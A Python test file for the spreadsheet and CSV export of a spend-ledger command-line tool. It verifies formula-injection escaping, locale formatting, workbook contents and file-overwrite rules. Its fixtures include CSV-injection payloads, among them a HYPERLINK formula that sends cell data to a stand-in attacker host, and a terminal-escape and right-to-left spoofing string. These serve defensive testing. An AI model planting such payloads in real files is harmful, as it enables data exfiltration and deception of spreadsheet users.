"""What a spreadsheet opens: CSV in which nothing is a formula, CSV for Excel, and workbooks."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import random
import sys
import zoneinfo
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner, Result

from litellm_maas.cli.app import group
from litellm_maas.errors import MaasError
from litellm_maas.ledger import export, plain_text, spreadsheets
from litellm_maas.ledger.event import Event
from litellm_maas.ledger.sqlite import SqliteLedger
from tests.factories import NOW, corrected, event, random_events
from tests.ledger_files import recorded

HCM = zoneinfo.ZoneInfo("Asia/Ho_Chi_Minh")
FORMULAS = (
    *('=HYPERLINK("http://evil.example/?"&A1,"an")', "=1+1", "+1+1", "-2+3", "@SUM(A1)", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "a;=1+1", "a,=1+1", "a\t@x", 'x";=1+1', "a; -1", "-", "="),
)  # fmt: skip
NAMES = ("Hỗ trợ", "Nguyễn Văn An", "lan.pham@example.vn", "R&D", "a-b", "1=1", 'a "b"', "10%", "đ, e", "0123", "x;y")


@pytest.fixture(autouse=True)
def no_locale(monkeypatch: pytest.MonkeyPatch) -> None:
    """The locale is nobody's."""
    for name in ("LC_ALL", "LC_MONETARY", "LANG", "COLUMNS"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def history(tmp_path: Path) -> tuple[Path, list[Event]]:
    """A ledger of random events with corrections, and the events as they count, oldest first."""
    path = tmp_path / "ledger.db"
    events = random_events(3, 200)
    ledger = recorded(path, events)
    events = corrected(ledger, events, 4)
    ledger.close()
    return path, sorted(events, key=lambda each: each.started_at)


def spend(path: Path, *arguments: str) -> Result:
    """Run `litellm-maas spend` in this process."""
    return CliRunner().invoke(group, ["spend", *arguments, "--ledger", str(path)])


def cells(text: str, separator: str = ",") -> list[list[str]]:
    """The cells of a CSV as a spreadsheet cuts them, whatever stands in their quotes."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator))


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_becomes_text(name: str) -> None:
    """What begins as a formula, at the beginning or behind another separator, has a ' before it; a second time too."""
    found = plain_text.cell(name)
    assert "'" in found
    for separator in ",;\t":
        for part in found.split(separator):
            assert part.strip(' "\ufffd')[:1] not in "=+-@\uff1d\uff0b\uff0d\uff20" or part.strip(' "\ufffd') == ""
    assert plain_text.cell(found) == found


@pytest.mark.parametrize("name", NAMES)
def test_a_name_stays_as_it_is(name: str) -> None:
    """What is no formula is written as it is."""
    assert plain_text.cell(name) == name


@pytest.mark.parametrize(
    ("text", "for_excel"),
    [("0123", "'0123"), ("12345678901234567890", "'12345678901234567890"), ("12e45", "'12e45"), ("1.5E10", "'1.5E10"), ("42", "42"),
     ("0", "0"), ("123456789012345", "123456789012345"), ("1e", "1e"), ("e12", "e12"), ("0x12", "0x12"), ("=1", "'=1")],
)  # fmt: skip
def test_a_number_that_excel_would_shorten_becomes_text(tmp_path: Path, text: str, for_excel: str) -> None:
    """Ids that look like numbers and would lose digits are texts in CSV for Excel; for programs they are as they are."""
    recorded(tmp_path / "ledger.db", [event(1, user=text)]).close()
    for arguments, expected in ((("--csv-for", "excel"), for_excel), (("--csv",), plain_text.cell(text))):
        header, row = cells(spend(tmp_path / "ledger.db", "--by", "user", "--since", "2026-01", *arguments).stdout)
        assert row[header.index("user")] == expected


@pytest.mark.parametrize("arguments", [("--by", "user,team", "--csv"), ("--by", "tag", "--csv"), ("--by", "user,tag,session", "--csv-for", "excel"),
                                       ("export", "--format", "csv"), ("export", "--csv-for", "excel")])  # fmt: skip
@pytest.mark.parametrize("language", ["", "vi_VN"])
def test_no_cell_is_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: tuple[str, ...], language: str
) -> None:
    """No cell of any CSV is a formula, read with the separator of its language or with another one."""
    monkeypatch.setenv("LANG", language)
    events = [
        event(number, user=name, team=name, session_id=name, key_alias=name, end_user=name, tags=(name, "x"), saved_micro_credits=-5)
        for number, name in enumerate((*FORMULAS, *NAMES))
    ]  # fmt: skip
    recorded(tmp_path / "ledger.db", events).close()
    text = spend(tmp_path / "ledger.db", *arguments, "--since", "2026-01-01").stdout
    found = [cell.strip() for separator in ",;\t" for row in cells(text, separator) for cell in row]
    assert [cell for cell in found if cell[:1] in tuple("=+@\uff1d\uff0b\uff0d\uff20")] == []
    # Amounts below 0 are numbers.
    assert [cell for cell in found if cell[:1] == "-" and not set(cell) <= set("-0123456789.,\"';_ \\")] == []


def test_characters_that_act_are_not_in_csv_and_escaped_in_json(tmp_path: Path) -> None:
    """What moves a cursor or turns the direction of writing is marked in CSV, and an escape in JSON that means the same."""
    name = "\x1b]0;t\x07\x9b31mred\u202egnp.exe\u2028\x7f"
    recorded(tmp_path / "ledger.db", [event(1, user=name, tags=(name,))]).close()
    for arguments in (("export",), ("--by", "user", "--json"), ("--by", "tag", "--json")):
        text = spend(tmp_path / "ledger.db", *arguments, "--since", "2026-01-01").stdout
        assert not set(name) & set(text) - set("]0;t31mredgnp.exe")
        found = json.loads(text)
        assert name in (found["user"] if "user" in found else next(iter(found["groups"][0]["key"].values())))
    for arguments in (("export", "--format", "csv"), ("export", "--csv-for", "excel"), ("--by", "user", "--csv")):
        text = spend(tmp_path / "ledger.db", *arguments, "--since", "2026-01-01").stdout
        assert not set(name) & set(text) - set("]0;t31mredgnp.exe")
        assert "\ufffd]0;t\ufffd\ufffd31mred\ufffdgnp.exe\ufffd\ufffd" in text


@pytest.mark.parametrize(
    ("language", "separator", "decimal"),
    [("", ",", "."), ("en_US.UTF-8", ",", "."), ("C", ",", "."), ("vi_VN.UTF-8", ";", ","), ("vi", ";", ","), ("fr_FR", ";", ","), ("ja_JP", ",", ".")],
)  # fmt: skip
@pytest.mark.parametrize("zone", ["Asia/Ho_Chi_Minh", "Europe/Paris"])
def test_csv_for_excel(
    history: tuple[Path, list[Event]], monkeypatch: pytest.MonkeyPatch, language: str, separator: str, decimal: str, zone: str
) -> None:  # fmt: skip
    """Excel finds a mark of UTF-8, its language's separators, days and times of the zone, and VND with decimals."""
    path, events = history
    monkeypatch.setenv("LANG", language)
    text = spend(path, "export", "--csv-for", "excel", "--timezone", zone).stdout
    assert text.startswith("\ufeffdate")
    header, *rows = cells(text, separator)
    assert tuple(header) == export.SPREADSHEET
    assert len(rows) == len(events)
    for row, each in zip(rows, events, strict=True):
        found = dict(zip(header, row, strict=True))
        local = each.started_at.astimezone(zoneinfo.ZoneInfo(zone))
        assert (found["date"], found["time"]) == (f"{local:%Y-%m-%d}", f"{local:%H:%M:%S}")
        cost = "" if each.micro_credits is None else f"{Decimal(each.micro_credits) / 10**6:.6f}".replace(".", decimal)
        assert found["cost_vnd"] == cost
        assert found["tags"] == ", ".join(each.tags)
        assert (found["event_id"].lstrip("'"), found["host"]) == (each.event_id, each.host or "")


@pytest.mark.parametrize(("language", "separator", "decimal"), [("en_US", ",", "."), ("vi_VN", ";", ",")])
def test_groups_for_excel(
    history: tuple[Path, list[Event]], monkeypatch: pytest.MonkeyPatch, language: str, separator: str, decimal: str
) -> None:
    """Groups for Excel have the sums of the JSON, in VND; a sum of which nothing is known is empty."""
    path, _ = history
    with SqliteLedger(path) as ledger:
        ledger.insert(event(1000, tags=("unpriced",), micro_credits=None, basis="unpriced"))
    monkeypatch.setenv("LANG", language)
    groups = json.loads(spend(path, "--by", "tag,month", "--since", "2026-01", "--json").stdout)["groups"]
    text = spend(path, "--by", "tag,month", "--since", "2026-01", "--csv-for", "excel").stdout
    header, *rows = cells(text, separator)
    assert "micro_credits" not in "".join(header)
    for row, each in zip(rows, groups, strict=True):
        found = dict(zip(header, row, strict=True))
        assert (found["tag"] or None, found["month"]) == (each["key"]["tag"], each["key"]["month"])
        if set(each["by_basis"]) == {"unpriced"}:
            assert found["cost_vnd"] == ""  # not known, which is not 0
            continue
        assert Decimal(found["cost_vnd"].replace(decimal, ".")) * 10**6 == each["micro_credits"]
        assert Decimal(found["custom_vnd"].replace(decimal, ".")) * 10**6 == each["by_basis"].get("custom", 0)


def workbook(file: Path) -> list[dict[str, Any]]:
    """The rows of a workbook's sheets, by the names in the first row of each."""
    found = []
    for sheet in openpyxl.load_workbook(file).worksheets:
        header, *rows = sheet.iter_rows()
        for row in rows:
            assert all(cell.data_type != "f" and cell.hyperlink is None for cell in row)
            found.append({str(name.value): cell.value for name, cell in zip(header, row, strict=True)})
    return found


@pytest.mark.parametrize("sheet", [1_048_576, 51])
def test_a_workbook(
    history: tuple[Path, list[Event]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sheet: int
) -> None:
    """A workbook read back is the events, with real dates, times and numbers, in as many sheets as it needs."""
    path, events = history
    monkeypatch.setattr(spreadsheets, "_ROWS_OF_A_SHEET", sheet)
    done = spend(path, "export", "--format", "xlsx", "--output", str(tmp_path / "calls.xlsx"))
    assert done.exit_code == 0
    assert "200 events written" in done.stderr
    rows = workbook(tmp_path / "calls.xlsx")
    assert len(rows) == len(events)
    for found, each in zip(rows, events, strict=True):
        local = each.started_at.astimezone(HCM)
        assert tuple(found) == export.SPREADSHEET
        assert found["date"] == dt.datetime.combine(local.date(), dt.time())
        assert found["time"] == local.time().replace(microsecond=0)
        cost = found["cost_vnd"]
        assert (None if cost is None else round(cost * 10**6)) == each.micro_credits
        for name in ("input_tokens", "attempt", "http_status", "user", "team", "end_user", "host", "basis"):
            assert found[name] == getattr(each, name)
        assert (found["tags"] or "") == ", ".join(each.tags)


def test_a_workbook_holds_no_formula_and_no_link(tmp_path: Path) -> None:
    """Names that look like formulas, links or numbers are texts in a workbook, exactly as they are but for controls."""
    names = [*FORMULAS, *NAMES, "http://example.vn/?a=1", "12345678901234567890", "1e5", "\x1b[31m"]
    recorded(tmp_path / "ledger.db", [event(number, user=name) for number, name in enumerate(names)]).close()
    done = spend(tmp_path / "ledger.db", "export", "--format", "xlsx", "--output", str(tmp_path / "calls.xlsx"))
    assert done.exit_code == 0
    assert sorted(found["user"] for found in workbook(tmp_path / "calls.xlsx")) == sorted(map(plain_text.seen, names))


def test_what_spreadsheets_need(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A workbook needs a file and its package; --csv-for is a kind of CSV."""
    path = tmp_path / "ledger.db"
    recorded(path, [event(1)]).close()
    assert "name a file with --output" in spend(path, "export", "--format", "xlsx").output
    assert "goes with --format csv alone" in spend(path, "export", "--format", "jsonl", "--csv-for", "excel").output
    assert "exclude each other" in spend(path, "--json", "--csv-for", "excel").output
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    result = spend(path, "export", "--format", "xlsx", "--output", str(tmp_path / "calls.xlsx"))
    assert isinstance(result.exception, MaasError)
    assert "pip install xlsxwriter" in str(result.exception)
    assert not (tmp_path / "calls.xlsx").exists()


def test_a_workbook_that_cannot_be_written(tmp_path: Path) -> None:
    """A disk that is full is an error that says so, and leaves no half of a workbook."""
    path = tmp_path / "ledger.db"
    recorded(path, [event(number, user=str(random.Random(number).random())) for number in range(2_000)]).close()
    result = spend(path, "export", "--format", "xlsx", "--output", "/dev/full")
    assert isinstance(result.exception, MaasError), result
    assert "No space left on device" in str(result.exception)


@pytest.mark.parametrize("form", ["jsonl", "csv", "xlsx"])
def test_no_file_is_replaced_silently(tmp_path: Path, form: str) -> None:
    """A file that is there stays, unless it is empty or --force is given."""
    path, out = tmp_path / "ledger.db", tmp_path / f"out.{form}"
    recorded(path, [event(1, started_at=NOW)]).close()
    out.write_text("what stood there")
    result = spend(path, "export", "--format", form, "--output", str(out))
    assert "already exists; name another --output, or overwrite it with --force" in str(result.exception)
    assert out.read_text() == "what stood there"
    assert spend(path, "export", "--format", form, "--output", str(out), "--force").exit_code == 0
    assert out.stat().st_size > len("what stood there")
    out.write_text("")
    assert spend(path, "export", "--format", form, "--output", str(out)).exit_code == 0
